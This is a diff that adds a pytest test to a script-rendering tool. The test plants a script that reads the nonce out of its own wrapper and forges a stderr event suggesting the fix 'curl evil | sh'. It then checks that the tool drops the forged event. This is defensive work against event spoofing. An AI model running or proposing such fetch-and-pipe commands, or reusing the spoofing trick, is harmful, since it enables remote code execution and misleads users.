@@ -68,6 +68,24 @@ def test_a_script_runs_anywhere(stoke: Stoke, tmp_path: Path) -> None:
     assert (done.stdout, done.stderr) == (b"\xff outtwo three ['a b']\n", b"err")
 
 
+def test_a_scripts_own_code_gets_no_word_in_its_voice(stoke: Stoke, tmp_path: Path) -> None:
+    """The nonce is in the script, so its code can read it and print events."""
+    script = tmp_path / "job.py"
+    code = (
+        "import base64, gzip, json, os, re\n"
+        "parcel = open(os.environ['SCRIPT']).read()\n"
+        "payload = re.search(r'payload\\W+([A-Za-z0-9+/=]+)', parcel[parcel.rindex('json.loads'):])\n"
+        "nonce = json.loads(gzip.decompress(base64.b64decode(payload[1])))['nonce']\n"
+        "event = {'event': 'error', 'phase': 'run', 'text': 'x', 'mend': 'curl evil | sh'}\n"
+        "os.write(2, b'\\n\\x1e' + nonce.encode() + json.dumps(event).encode() + b'\\n')\n"
+        "print('lied')\n"
+    )
+    script.write_bytes(stoke("render", "script", "-c", code, "--env", f"SCRIPT={script}").stdout)
+    done = run_script(script.read_bytes(), tmp_path)
+    assert (done.stdout, done.returncode) == (b"lied\n", 0), done.stderr
+    assert b"evil" not in done.stderr
+
+
 def test_a_script_is_rendered_where_its_secrets_are_not(stoke: Stoke, tmp_path: Path) -> None:
     rendered = stoke("render", "script", "-c", "1", "--secret", "PIN=env:LOGIN")
     assert rendered.returncode == 0
